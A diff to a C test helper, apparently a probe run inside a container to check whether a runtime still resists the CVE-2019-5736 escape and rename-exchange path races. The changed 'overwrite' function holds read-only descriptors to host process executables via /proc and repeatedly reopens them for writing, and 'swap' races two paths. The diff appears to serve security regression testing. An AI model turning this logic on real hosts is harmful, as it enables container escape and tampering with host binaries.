@@ -159,38 +159,41 @@ static int write_to(char **argv)
 	return 0;
 }
 
-/* overwrite SECONDS: looks for any process whose exe is not one of this container's and tries to write to it, as the
-   attackers of CVE-2019-5736 did: keeps a descriptor of it read-only, then opens that for writing again and again */
+/* overwrite STOP: until the file STOP exists, looks for a process whose exe is none of this container's own programs and
+   tries to write to it as the attackers of CVE-2019-5736 did: holds a descriptor of it read-only, and opens that for
+   writing again and again, also after the process has ended */
 static int overwrite(char **argv)
 {
-	struct stat own;
-	time_t end = time(NULL) + number(argv[0]);
-	if (stat("/proc/self/exe", &own))
-		return 1;
+	static const char *const own_paths[] = { "/bin/probe", "/bin/busybox" };
+	struct stat own[2];
+	for (int i = 0; i < 2; i++)
+		if (stat(own_paths[i], &own[i]))
+			return 1;
 	puts("watching");
 	fflush(stdout);
-	int seen = 0;
-	while (time(NULL) < end) {
-		char path[64], again[64];
-		for (int pid = 1; pid < 400; pid++) {
+	while (access(argv[0], F_OK)) {
+		for (int pid = 1; pid < 2000; pid++) {
 			struct stat exe;
+			char path[64];
 			snprintf(path, sizeof path, "/proc/%d/exe", pid);
 			int fd = open(path, O_RDONLY);
 			if (fd < 0)
 				continue;
-			if (fstat(fd, &exe) || exe.st_dev == own.st_dev) {
-				close(fd);
-				continue;
-			}
-			if (!seen++)
-				puts("seen"), fflush(stdout);
-			snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
-			for (int i = 0; i < 2000; i++) {
-				int out = open(again, O_WRONLY);
-				if (out >= 0) {
-					if (write(out, "#!/bin/pwned\n", 13) == 13)
-						puts("WRITTEN"), fflush(stdout);
-					close(out);
+			int is_own = fstat(fd, &exe) != 0;
+			for (int i = 0; i < 2; i++)
+				is_own |= exe.st_dev == own[i].st_dev && exe.st_ino == own[i].st_ino;
+			if (!is_own) {
+				puts("seen");
+				fflush(stdout);
+				snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+				for (int i = 0; i < 5000; i++) {
+					int out = open(path, O_WRONLY);
+					if (out >= 0) {
+						if (write(out, "#!/bin/overwritten\n", 19) == 19)
+							puts("WRITTEN"), fflush(stdout);
+						close(out);
+						break;
+					}
 				}
 			}
 			close(fd);
@@ -200,12 +203,11 @@ static int overwrite(char **argv)
 	return 0;
 }
 
-/* swap A B SECONDS: exchanges two paths for that long, as fast as it can */
+/* swap A B STOP: exchanges two paths as fast as it can until the file STOP exists */
 static int swap(char **argv)
 {
-	time_t end = time(NULL) + number(argv[2]);
-	while (time(NULL) < end)
-		for (int i = 0; i < 1000; i++)
+	while (access(argv[2], F_OK))
+		for (int i = 0; i < 200; i++)
 			syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */);
 	return 0;
 }
